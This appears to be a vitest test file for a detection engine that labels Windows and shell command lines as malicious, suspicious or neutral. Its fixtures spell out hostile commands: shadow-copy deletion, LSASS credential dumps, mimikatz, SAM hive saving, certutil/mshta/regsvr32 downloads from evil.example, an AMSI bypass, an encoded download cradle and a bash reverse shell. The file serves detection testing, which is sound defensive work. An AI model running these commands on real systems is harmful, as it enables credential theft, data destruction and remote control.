import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { commandLine, judgeCommandLine } from "../../../src/engine/analyzers/command-line.ts";
import { NOTHING, NOW } from "../../support/lab-capabilities.ts";

const encode = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const rules = (line: string) => judgeCommandLine(line, NOW).map(({ raw }) => (raw as { rule?: string } | undefined)?.rule);
const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";

test.each<[string, string, string]>([
  ["vssadmin.exe Delete Shadows /All /Quiet", "shadow-copy-deletion", "malicious"],
  ["wmic shadowcopy delete", "shadow-copy-deletion", "malicious"],
  ["powershell Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}", "shadow-copy-deletion", "malicious"],
  ['v^ss^admin   delete   sha"d"ows', "shadow-copy-deletion", "malicious"],
  ["bcdedit /set {default} recoveryenabled No", "recovery-disabled", "malicious"],
  ["rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", "lsass-dump", "malicious"],
  ["procdump64.exe -accepteula -ma lsass.exe out.dmp", "lsass-dump", "malicious"],
  ["mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "lsass-dump", "malicious"],
  ["reg save HKLM\\SAM C:\\temp\\sam.hiv", "credential-hives-saved", "malicious"],
  ['ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q', "directory-database-copied", "malicious"],
  ["certutil -urlcache -split -f http://evil.example/a.exe a.exe", "certutil-download", "malicious"],
  ["certutil -decode a.txt a.exe", "certutil-decode", "suspicious"],
  ["mshta http://evil.example/a.hta", "mshta-remote", "malicious"],
  ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "rundll32-script", "malicious"],
  ["regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll", "regsvr32-remote", "malicious"],
  ["bitsadmin /transfer job /download http://evil.example/a.exe c:\\a.exe", "bitsadmin-download", "suspicious"],
  [`powershell -c "${cradle}"`, "download-cradle", "malicious"],
  ["powershell iwr https://evil.example/a | iex", "download-cradle", "malicious"],
  ["powershell Invoke-WebRequest https://packages.example/tool.msi -OutFile tool.msi", "powershell-download", "suspicious"],
  ["powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "amsi-bypass", "malicious"],
  ["powershell Set-MpPreference -DisableRealtimeMonitoring $true", "antivirus-weakened", "suspicious"],
  ["wevtutil cl Security", "event-log-cleared", "suspicious"],
  ["bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "reverse-shell", "malicious"],
  ["powershell -NoP -W Hidden -File C:\\Scripts\\a.ps1", "hidden-powershell", "suspicious"],
])("%s: %s", (line, rule, label) => {
  const hit = judgeCommandLine(line, NOW).find(({ raw }) => (raw as { rule?: string } | undefined)?.rule === rule);
  expect(hit?.label).toBe(label);
  expect(hit?.technique).toMatch(/^T\d{4}/);
});

test.each([
  "powershell.exe -File C:\\Scripts\\inventory.ps1",
  "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
  "vssadmin list shadows",
  "C:\\Program Files\\Internet Explorer\\iexplore.exe https://intranet.contoso.example",
  "certutil -verify cert.cer",
  "rundll32.exe shell32.dll,Control_RunDLL",
  "reg save HKCU\\Software backup.hiv",
  "git commit -e -m message",
  "",
])("an ordinary line matches nothing: %s", (line) => {
  expect(judgeCommandLine(line, NOW)).toMatchObject([{ label: "neutral", weight: 0 }]);
});

describe("encoded PowerShell", () => {
  test.each(["-e", "-ec", "-enc", "-EncodedCommand", "/e", "\u2013enc", "-e^n^c"])("is decoded under %s", (flag) => {
    expect(rules(`powershell.exe -nop ${flag} ${encode(cradle)}`)).toEqual(
      expect.arrayContaining(["download-cradle", "encoded-powershell"]),
    );
  });
  test("inside another one", () => {
    const inner = `powershell -enc ${encode("vssadmin delete shadows /all")}`;
    expect(rules(`powershell -enc ${encode(inner)}`)).toContain("shadow-copy-deletion");
  });
  test("harmless inside is a weak sign only", () => {
    expect(judgeCommandLine(`powershell -enc ${encode("Get-Service | Out-File services.txt")}`, NOW)).toMatchObject([
      { label: "suspicious", technique: "T1027.010" },
    ]);
  });
  test("an execution policy is not an encoded command", () => {
    expect(rules("powershell -ex bypass -ep unrestricted")).toEqual([undefined]);
  });
  test("a rule votes once, inside and outside together", () => {
    const hits = rules(`powershell ${cradle}; powershell -enc ${encode(cradle)}`);
    expect(hits.filter((rule) => rule === "download-cradle")).toHaveLength(1);
  });
});

test("any text is judged, none throws", () => {
  fc.assert(
    fc.property(fc.string({ maxLength: 300, unit: "binary" }), (line) => {
      expect(judgeCommandLine(line, NOW).length).toBeGreaterThan(0);
      judgeCommandLine(`powershell -enc ${line}`, NOW);
    }),
  );
});

test("hostile lines of the largest size come back: a backtracking pattern would run into the test's time-out", () => {
  for (const part of ["iex", "lsass -", "powershell -e ", "vssadmin delete ", "\"^'", "AAAA"]) {
    expect(judgeCommandLine(part.repeat(32_768), NOW).length).toBeGreaterThan(0);
  }
});

test("a process without a command line is not asked about", () => {
  const context = { now: NOW, severity: "low", entities: [] } as const;
  expect(commandLine.looks({ kind: "process", name: "a.exe" }, NOTHING, context)).toEqual([]);
  expect(commandLine.looks({ kind: "process", commandLine: "a.exe" }, NOTHING, context)).toMatchObject([{ key: "command-line/air" }]);
});
